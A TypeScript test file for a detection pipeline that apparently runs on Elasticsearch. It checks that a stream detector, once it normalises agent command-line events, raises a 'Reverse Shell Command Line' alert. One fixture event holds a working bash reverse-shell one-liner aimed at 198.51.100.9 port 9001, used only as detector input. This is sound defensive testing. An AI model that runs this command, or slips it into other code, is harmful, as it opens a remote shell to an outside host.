import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { uniqueNamespace } from '../support/elastic.ts';
import { loadAlertPolicy } from '../../src/alerts/index.ts';
import { createStreamDetector } from '../../src/detection/stream/index.ts';
import { SourcePipelines } from '../../src/ingest/source-pipelines.ts';
import { validateEvent } from '../../src/ingest/event-contract.ts';
import { routeEvent } from '../../src/ingest/agent-events.ts';
import { packRules } from '../alerts/support.ts';
import { alertsIn, bootstrapped, testConfig } from './support.ts';

after(async () => (await bootstrapped()).client.close());

/** An agent event as the ingest API hands it to hooks when Elasticsearch (not Nyx) will run the pipeline. */
function rawAgentDoc(ns: string, cmd: string): Record<string, unknown> {
  const checked = validateEvent({ ts: new Date().toISOString(), category: 'commandline', host: 'edge-1', user: 'svc', cmd, pid: 7 });
  assert.ok(checked.ok);
  const routed = routeEvent({ agentId: 'agent-x', namespace: ns, hostname: 'edge-1' } as Parameters<typeof routeEvent>[0], checked.event);
  assert.ok(routed.ok);
  return { ...routed.doc, data_stream: { type: 'logs', dataset: 'endpoint', namespace: ns } };
}

test('on a cluster that runs the pipelines itself, the stream path matches the same pipeline output computed in process', async () => {
  const { client } = await bootstrapped();
  const ns = uniqueNamespace('wsh');
  const rules = packRules();
  const policy = loadAlertPolicy();
  const offline = SourcePipelines.offline(testConfig());
  const ctx = { namespace: ns, source: 'endpoint' as const, dataStream: `logs-endpoint-${ns}`, agentId: 'agent-x', normalised: false };
  const docs = [rawAgentDoc(ns, 'bash -i >& /dev/tcp/198.51.100.9/9001 0>&1'), rawAgentDoc(ns, 'uptime')];

  const without = createStreamDetector({ client, rules, policy });
  assert.deepEqual(await without.detect(docs, ctx), []);
  assert.equal(without.stats.skippedUnnormalised, 1, 'left to the watcher, and counted');

  const detector = createStreamDetector({ client, rules, policy, normalise: (source, doc, ds) => offline.normalise(source, structuredClone(doc), { _index: ds }).doc as Record<string, unknown> });
  const alerts = await detector.detect(docs, ctx);
  assert.deepEqual(alerts.map((a) => a.rule.name), ['Reverse Shell Command Line']);
  assert.equal(docs[0]!.process, undefined, 'the stored documents are not touched');
  assert.equal((await alertsIn(client, ns)).length, 1);
});
